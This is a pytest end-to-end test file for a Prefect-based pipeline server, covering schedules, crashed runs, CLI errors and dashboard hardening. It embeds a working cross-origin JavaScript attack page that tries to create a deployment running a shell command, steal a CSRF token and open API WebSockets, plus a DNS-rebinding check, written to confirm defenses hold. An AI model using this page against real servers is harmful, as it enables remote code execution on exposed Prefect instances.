"""A real server, worker and browser: schedules that fire, runs in each other's way, web pages."""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import queue
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TypeVar

import psutil
import pytest
import requests
import yaml

from tests.conftest import ROOT
from tests.e2e.conftest import (
    Prefect,
    browser,
    dump_dom,
    free_port,
    small_config,
    wait_until_healthy,
)

pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]


T = TypeVar("T")


@pytest.fixture(scope="module")
def config(prefect_server: Prefect, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return small_config(tmp_path_factory.mktemp("refresh"), prefect_server.store)


@pytest.fixture(scope="module")
def first_run(prefect_server: Prefect, config: Path) -> dict[str, object]:
    run = prefect_server.run_deployment("build-dabench", 300, config=str(config))
    assert run["state"]["type"] == "COMPLETED", run["state"]["message"]
    return run


def scheduled_runs(server: Prefect, *types: str) -> list[dict[str, object]]:
    """Runs of ``build-dabench`` that a schedule made."""
    deployment = server.api("GET", "/deployments/name/build-dabench/build-dabench")
    runs = server.api(
        "POST",
        "/flow_runs/filter",
        deployments={"id": {"any_": [deployment["id"]]}},
        flow_runs={"state": {"type": {"any_": types}}} if types else {},
    )
    return [run for run in runs if run["auto_scheduled"]]


def until(ask: Callable[[], T], timeout: float) -> T:
    """The first true answer."""
    deadline = time.monotonic() + timeout
    while not (answer := ask()):
        assert time.monotonic() < deadline, f"nothing after {timeout:.0f} s"
        time.sleep(0.5)
    return answer


def test_the_weekly_schedule_makes_runs(prefect_server: Prefect) -> None:
    assert not scheduled_runs(prefect_server)
    prefect_server.command("diffagent", "deployment", "resume", "build-dabench")
    runs = until(lambda: scheduled_runs(prefect_server, "SCHEDULED"), 90)
    for run in runs:
        assert run["parameters"]["refresh"] is True
        assert "T03:00:00" in run["expected_start_time"]
    prefect_server.command("diffagent", "deployment", "pause", "build-dabench")
    until(lambda: not scheduled_runs(prefect_server, "SCHEDULED"), 30)


@pytest.fixture(scope="module")
def scheduled_run(
    prefect_server: Prefect,
    first_run: dict[str, object],
    config: Path,
    tmp_path_factory: pytest.TempPathFactory,
) -> dict[str, object]:
    """A run that the schedule of prefect.yaml made, every 10 s instead of weekly."""
    file = yaml.safe_load((ROOT / "prefect.yaml").read_text())
    file["deployments"] = [d for d in file["deployments"] if d["name"] == "build-dabench"]
    (deployment,) = file["deployments"]
    deployment["parameters"]["config"] = str(config)
    (schedule,) = deployment["schedules"]
    del schedule["cron"]
    schedule["interval"] = 10
    path = tmp_path_factory.mktemp("often") / "prefect.yaml"
    path.write_text(yaml.safe_dump(file))
    prefect_server.command("prefect", "deploy", "--all", "--prefect-file", str(path))
    prefect_server.command("diffagent", "deployment", "resume", "build-dabench")
    runs = until(lambda: scheduled_runs(prefect_server, "COMPLETED", "FAILED", "CRASHED"), 120)
    prefect_server.command("diffagent", "deployment", "pause", "build-dabench")
    until(lambda: not scheduled_runs(prefect_server, "SCHEDULED", "PENDING", "RUNNING"), 120)
    return runs[-1]


def test_a_scheduled_run_goes_through_a_worker(scheduled_run: dict[str, object]) -> None:
    assert scheduled_run["state"]["type"] == "COMPLETED", scheduled_run["state"]["message"]
    assert scheduled_run["parameters"]["refresh"] is True
    assert "Nothing new" in scheduled_run["state"]["message"]


def artifacts_of(server: Prefect, run: dict[str, object]) -> dict[str, dict[str, object]]:
    rows = server.api("POST", "/artifacts/filter", flow_runs={"id": {"any_": [run["id"]]}})
    return {row["key"]: row for row in rows}


def test_the_dashboard_shows_what_a_refresh_did(
    prefect_server: Prefect, first_run: dict[str, object], scheduled_run: dict[str, object]
) -> None:
    assert scheduled_run["name"].startswith("small refresh 20")
    assert {"small", "refresh", "dataset"} <= set(scheduled_run["tags"])
    before, after = (artifacts_of(prefect_server, run) for run in (first_run, scheduled_run))
    assert all(row["description"] for row in [*before.values(), *after.values()])
    # Not the numbers of the first crawl, which made the snapshot that stays:
    assert "| requests | 21 |" in before["crawl-summary"]["data"]
    assert "| requests | 3 |" in after["crawl-summary"]["data"]
    assert "Nothing new" in after["crawl-summary"]["data"]
    changes = {row["items"]: row for row in json.loads(after["crawl-changes"]["data"])}
    assert changes.keys() == {"models", "versions", "images"}
    assert changes["images"] == {
        **{"items": "images", "added": 0, "changed": 0, "removed": 0, "returned": 0}
    }
    # Stages from the cache have their row and their funnels, too: the history has no gaps.
    for funnel in ("filter-funnel-models", "filter-funnel-records", "shard-funnel-records"):
        assert after[funnel]["data"] == before[funnel]["data"]
    stages = {row["stage"]: row for row in json.loads(after["build-dabench-stages"]["data"])}
    assert {key: row["state"] for key, row in stages.items()} == {
        **{"crawl": "Completed", "filter": "Cached", "shard": "Cached"}
    }
    link = after["dabench-card"]["data"].partition("](")[2].rstrip(")")
    assert requests.get(link, timeout=10).text.startswith("---"), "the data card"


def test_a_short_name_runs_a_deployment(
    prefect_server: Prefect, first_run: dict[str, object], config: Path
) -> None:
    text = prefect_server.command(
        *("diffagent", "deployment", "run", "build-dabench", "-p", f"config={config}"),
        *("--flow-run-name", "by-short-name"),
    )
    assert "Created flow run" in text
    runs = prefect_server.api("POST", "/flow_runs/filter", sort="EXPECTED_START_TIME_DESC", limit=1)
    run = prefect_server.wait(runs[0]["id"], 120)
    assert run["state"]["type"] == "COMPLETED" and run["parameters"]["config"] == str(config)


@pytest.mark.parametrize(
    ("words", "reason"),
    [
        (("run", "no-such"), "prefect deploy --all"),
        (("resume", "train-sft"), "no schedule"),
    ],
)
def test_a_wrong_name_is_one_line(
    prefect_server: Prefect, words: tuple[str, ...], reason: str
) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "diffagent", "deployment", *words],
        env=prefect_server.environment,
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 1 and done.stderr.count("\n") == 1
    assert done.stderr.startswith("error: ") and reason in done.stderr


@pytest.fixture
def silent_site() -> Iterator[str]:
    """The address of a site that takes requests and never answers."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        yield f"http://127.0.0.1:{listener.getsockname()[1]}"


def test_a_run_in_the_way_is_named_and_a_lost_one_is_not_waited_for(
    prefect_server: Prefect,
    first_run: dict[str, object],
    config: Path,
    tmp_path: Path,
    silent_site: str,
) -> None:
    soon = {"runtime.tasks.lost_after_seconds": 12}
    stuck = {**soon, "crawl.site": silent_site, "runtime.store": str(tmp_path)}
    first = prefect_server.submit("build-dabench", config=str(config), overrides=stuck)
    first_name = prefect_server.wait(first, 60, "RUNNING")["name"]

    second = prefect_server.run_deployment("build-dabench", 60, config=str(config), overrides=soon)
    assert second["state"]["type"] == "CANCELLED"
    message = second["state"]["message"]
    assert first in message and "since 20" in message and "prefect flow-run cancel" in message

    worker = psutil.Process(prefect_server.worker.pid)  # the whole machine is gone
    for process in [*worker.children(recursive=True), worker]:
        process.kill()
    prefect_server.worker.wait()
    prefect_server.start_worker()
    began = time.monotonic()
    third = prefect_server.run_deployment("build-dabench", 240, config=str(config), overrides=soon)
    assert third["state"]["type"] == "COMPLETED", third["state"]["message"]
    assert time.monotonic() - began < 240, "Prefect's lease would be 300 s"
    lost = prefect_server.api("GET", f"/flow_runs/{first}")
    assert lost["state"]["type"] == "CRASHED" and first_name != "", lost["state"]
    logs = prefect_server.api("POST", "/logs/filter", logs={"flow_run_id": {"any_": [third["id"]]}})
    assert any("has been running since" in row["message"] for row in logs)


#: A page that tries what an API may allow, and sends its own site what it got done.
ATTACK = """<!doctype html><body>waiting<script>
const api = "%s/api";
const post = (path, body, headers) => fetch(api + path, {
  method: "POST", body: JSON.stringify(body),
  headers: {"content-type": "application/json", ...headers}}).then(answer => {
    if (!answer.ok) throw answer.status; return answer.json()});
const socket = path => new Promise(done => {
  const opened = new WebSocket(api.replace("http", "ws") + path);
  opened.onopen = () => done("open"); opened.onerror = () => done("closed")});
async function attempt(name, act) {
  try { return name + ":" + await act() } catch (error) { return name + ":refused" }
}
async function run(headers) {
  const flow = await post("/flows/", {name: "foreign"}, headers);
  const deployment = await post("/deployments/", {name: "foreign", flow_id: flow.id,
    job_variables: {command: "touch /tmp/foreign"}}, headers);
  await post(`/deployments/${deployment.id}/create_flow_run`,
    {state: {type: "SCHEDULED"}}, headers);
  return "created";
}
(async () => {
  const results = [
    await attempt("run", () => run({})),
    await attempt("token", async () => {
      const answer = await fetch(api + "/csrf-token?client=foreign");
      return run({"Prefect-Csrf-Client": "foreign",
                  "Prefect-Csrf-Token": (await answer.json()).token})}),
    await attempt("simple", () => fetch(api + "/flows/", {method: "POST", mode: "no-cors",
      headers: {"content-type": "text/plain"}, body: '{"name": "simple"}'}).then(() => "sent")),
    await attempt("read", () => fetch(api + "/admin/version").then(a => a.json())),
    await attempt("events", () => socket("/events/in")),
    await attempt("logs", () => socket("/logs/out")),
  ];
  fetch("/results", {method: "POST", body: results.join(" ")});
})();
</script>"""


def attack(chromium: str, url: str, profile: Path) -> dict[str, str]:
    """Let a browser open the page on a site of another origin; returns what it did to ``url``."""
    results: queue.Queue[str] = queue.Queue()

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write((ATTACK % url).encode())

        def do_POST(self) -> None:
            results.put(self.rfile.read(int(self.headers["Content-Length"])).decode())
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        page = f"http://localhost:{server.server_port}/"
        command = [*browser(chromium, str(profile)), "--remote-debugging-port=0", page]
        process = subprocess.Popen(
            command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
        )
        try:
            return dict(result.split(":") for result in results.get(timeout=120).split())
        finally:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
            server.shutdown()


def foreign_flows(server: Prefect) -> set[str]:
    names = {"name": {"any_": ["foreign", "simple"]}}
    return {flow["name"] for flow in server.api("POST", "/flows/filter", flows=names)}


def test_a_foreign_page_can_do_nothing(
    prefect_server: Prefect, chromium: str, tmp_path: Path
) -> None:
    assert attack(chromium, prefect_server.url, tmp_path) == {
        **{"run": "refused", "token": "refused", "read": "refused"},
        **{"simple": "sent", "events": "closed", "logs": "closed"},
    }
    assert not foreign_flows(prefect_server), "what was sent without leave did nothing"


def test_the_page_is_an_attack_on_prefects_defaults(tmp_path: Path, chromium: str) -> None:
    """The same page on Prefect's own server with the settings that it has by default."""
    port = free_port()
    environment = {
        **os.environ,
        "PREFECT_HOME": str(tmp_path),
        "PREFECT_SERVER_API_CSRF_PROTECTION_ENABLED": "false",
        "PREFECT_SERVER_API_CORS_ALLOWED_ORIGINS": "*",
        "PREFECT_SERVER_ANALYTICS_ENABLED": "false",
    }
    url = f"http://127.0.0.1:{port}"
    server = Prefect(
        url, "", tmp_path, environment, tmp_path / "log.txt", headers={"X-No-Token": "1"}
    )
    process = server.start("prefect", "server", "start", "--port", str(port))
    try:
        wait_until_healthy(url, process, server.log)
        done = attack(chromium, url, tmp_path / "profile")
        assert (done["run"], done["events"], done["logs"]) == ("created", "open", "open")
        assert "foreign" in foreign_flows(server)
    finally:
        process.terminate()
        process.wait(30)


def test_a_name_made_to_point_here_gets_nothing(prefect_server: Prefect, chromium: str) -> None:
    """DNS rebinding: the page is of the same origin as the server, under a foreign name."""
    mapped = "--host-resolver-rules=MAP rebind.example 127.0.0.1"
    for url in (prefect_server.url, prefect_server.store_url):
        foreign = url.replace("127.0.0.1", "rebind.example")
        text = dump_dom(chromium, f"{foreign}/api/csrf-token?client=x", mapped)
        assert "has no host name" in text and "token" not in text


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_the_ui_works_under_each_name_of_this_machine(
    prefect_server: Prefect, chromium: str, name: str
) -> None:
    text = dump_dom(chromium, f"{prefect_server.url.replace('127.0.0.1', name)}/deployments")
    assert "build-dabench" in text and "run-pipeline" in text


def test_no_page_frames_the_ui(prefect_server: Prefect) -> None:
    headers = requests.get(f"{prefect_server.url}/v2/runs", timeout=30).headers
    assert headers["X-Frame-Options"] == "DENY"


@pytest.mark.parametrize(
    ("options", "environment", "reason"),
    [
        (("--host", "0.0.0.0"), {}, "PREFECT_SERVER_API_AUTH_STRING"),
        ((), {"PREFECT_SERVER_API_CSRF_PROTECTION_ENABLED": "false"}, "csrf_protection_enabled"),
        ((), {"PREFECT_SERVER_API_CORS_ALLOWED_ORIGINS": "*"}, "cors_allowed_origins"),
    ],
)
def test_an_open_server_is_not_started(
    tmp_path: Path, options: tuple[str, ...], environment: dict[str, str], reason: str
) -> None:
    ports = ("--port", str(free_port()), "--store-port", str(free_port()))
    done = subprocess.run(
        [sys.executable, "-m", "flows.serve_dashboard", "--store", str(tmp_path), *ports, *options],
        env={**os.environ, "PREFECT_HOME": str(tmp_path), "COLUMNS": "200", **environment},
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 2 and reason in done.stderr and "Traceback" not in done.stderr


def test_a_taken_port_is_told(prefect_server: Prefect, tmp_path: Path) -> None:
    port = prefect_server.url.rpartition(":")[2]
    done = subprocess.run(
        [
            *(sys.executable, "-m", "flows.serve_dashboard", "--port", port),
            *("--store", str(tmp_path), "--store-port", str(free_port())),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 2 and "--port" in done.stderr and "Traceback" not in done.stderr


def test_make_serves_a_store_with_a_space_in_its_name(tmp_path: Path) -> None:
    """``make serve-dashboard``, with this Python for the environment that it would install."""
    environment = tmp_path / "venv"
    (environment / "bin").mkdir(parents=True)
    (environment / "bin/python").write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
    (environment / "bin/python").chmod(0o755)
    (environment / ".installed").touch()
    store = tmp_path / "my store"
    port, store_port = free_port(), free_port()
    command = ["make", "serve-dashboard", f"STORE={store}", f"VENV={environment}"]
    command += [f"PYTHON={sys.executable}", f"API_PORT={port}", f"STORE_PORT={store_port}"]
    without_home = {k: v for k, v in os.environ.items() if k != "PREFECT_HOME"}
    with (tmp_path / "log.txt").open("w") as log:
        process = subprocess.Popen(
            command, cwd=ROOT, env=without_home, stdout=log, stderr=log, start_new_session=True
        )
    try:
        wait_until_healthy(f"http://127.0.0.1:{port}", process, tmp_path / "log.txt")
        assert (store / "prefect/prefect.db").exists()
        assert requests.get(f"http://127.0.0.1:{store_port}/", timeout=10).ok
        assert requests.get(f"http://127.0.0.1:{store_port}/prefect/prefect.db").status_code == 404
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGTERM)
        process.wait(30)
